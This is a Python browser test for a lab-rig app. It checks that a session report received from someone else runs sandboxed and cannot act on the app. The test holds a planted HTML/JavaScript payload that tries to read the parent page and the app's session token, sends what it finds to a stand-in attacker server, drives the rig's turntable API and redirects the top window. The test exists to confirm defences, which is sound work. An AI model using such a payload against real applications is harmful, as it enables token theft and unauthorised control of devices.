"""A session's report has no authority over the app (issue 48): a session folder received from someone else,
its report.html planted to drive the rig, runs sandboxed (its own origin) when the Sessions page opens it; a
real report still renders there, its 3D view drawn. Real headless Chromium, the real server, the planted
report reporting to a second local HTTP server."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time

import pytest

from support.attacker_server import AttackerServer
from support.chromium import chromium_paths, open_page
from support.ui_server import start_ui

pytestmark = pytest.mark.skipif(chromium_paths() is None, reason="headless browser missing: apt-get install "
                                "chromium chromium-driver (`make test` installs them when run as root)")

_PLANTED = """<!doctype html><title>planted</title><script>
function log(k, v) { new Image().src = "ATTACKER/log?" + k + "=" + encodeURIComponent(v); }
log("origin", String(self.origin));
try { log("parent", parent.document.title); } catch (e) { log("parent", "blocked"); }
try { log("token", parent.sessionStorage.getItem("rangekit-token") || "empty"); } catch (e) { log("token", "blocked"); }
try { log("storage", String(sessionStorage.length)); } catch (e) { log("storage", "blocked"); }
fetch("/api/turntable", {method: "POST", headers: {"Content-Type": "application/json"}, body: '{"degrees": 90}'})
  .then((r) => log("fetch", "status " + r.status), () => log("fetch", "blocked"));
fetch("/api/turntable", {method: "POST", mode: "no-cors", body: '{"degrees": 90}'})
  .then(() => log("nocors", "sent"), () => log("nocors", "error"));
fetch("/api/status").then((r) => log("read", "status " + r.status), () => log("read", "blocked"));
try { top.location = "ATTACKER/escaped"; } catch (e) { log("top", "blocked"); }
</script>"""


@pytest.fixture(scope="module")
def sessions(reference_session, tmp_path_factory):
    root = tmp_path_factory.mktemp("sessions")
    shutil.copytree(reference_session, root / "real")
    subprocess.run([sys.executable, "-m", "rangekit", "-q", "process", str(root / "real")], check=True,
                   stdin=subprocess.DEVNULL, capture_output=True, timeout=900)
    shutil.copytree(reference_session, root / "planted")
    return root


def _open(page, name: str) -> None:
    page.execute("location.hash = '#sessions';")
    page.until(f"return !!document.querySelector('button[data-session=\"{name}\"]');")
    page.execute(f"document.querySelector('button[data-session=\"{name}\"]').click();")
    page.until("return !!document.getElementById('session-report').getAttribute('src');", timeout=60)


def test_a_planted_report_runs_sandboxed_and_a_real_one_renders(sessions):
    server = start_ui(sessions)
    try:
        with AttackerServer({}) as attacker:
            (sessions / "planted" / "report.html").write_text(_PLANTED.replace("ATTACKER", attacker.base))

            def look(page):
                _open(page, "planted")
                deadline = time.monotonic() + 60
                while len({k for r in attacker.requests for k in r["query"]}) < 8 and time.monotonic() < deadline:
                    time.sleep(0.2)
                time.sleep(1.0)
                out = {"location": page.execute("return location.origin + location.pathname;"),
                       "sandbox": page.execute("return document.getElementById('session-report').getAttribute('sandbox');")}
                _open(page, "real")
                page.frame("#session-report")
                out["title"] = page.until("return document.readyState === 'complete' && document.title;", timeout=60)
                out["drawn"] = page.until(
                    "const c = document.getElementById('rk-view'); if (!c) return false;"
                    "const blank = document.createElement('canvas'); blank.width = c.width; blank.height = c.height;"
                    "return c.toDataURL() !== blank.toDataURL();", timeout=60)
                out["origin"] = page.execute("return String(self.origin);")
                page.frame(None)
                return out

            seen = open_page(server.url, width=1300, height=900, timeout_s=300, interact=look)["interaction"]
            got = {k: v for r in attacker.requests if r["path"] == "/log" for k, vs in r["query"].items() for v in vs}
            escaped = [r for r in attacker.requests if r["path"] == "/escaped"]
        rig = json.loads(server.request("/api/status")[1])["rig"]
        # The report's file: sandboxed by its own header, frameable by the app only; its ticket spent.
        path = "/api/sessions/real/files/report.html"
        ticket = server.ticket(path)
        status, _, headers = server.request(f"{path}?ticket={ticket}", token=None)
        again = server.request(f"{path}?ticket={ticket}", token=None)[0]
    finally:
        log = server.stop()
    # The planted report ran in an origin of its own: it could not read the app, its token, nor act.
    assert seen["sandbox"] == "allow-scripts" and seen["location"] == server.base + "/"
    assert got["origin"] == "null" and got["parent"] == "blocked" and got["token"] == "blocked", got
    assert got["storage"] == "blocked" and got["fetch"] == "blocked" and got["read"] == "blocked", got
    assert not escaped and rig["turntable"]["angle_deg"] == 0.0
    # The real report rendered in the same sandbox: its title, its WebGL view drawn.
    assert seen["title"].startswith("rangekit report") and seen["drawn"] and seen["origin"] == "null"
    assert status == 200 and headers["content-security-policy"].startswith("sandbox allow-scripts")
    assert "frame-ancestors 'self'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "SAMEORIGIN" and headers["x-content-type-options"] == "nosniff"
    assert again == 403 and "Traceback" not in log
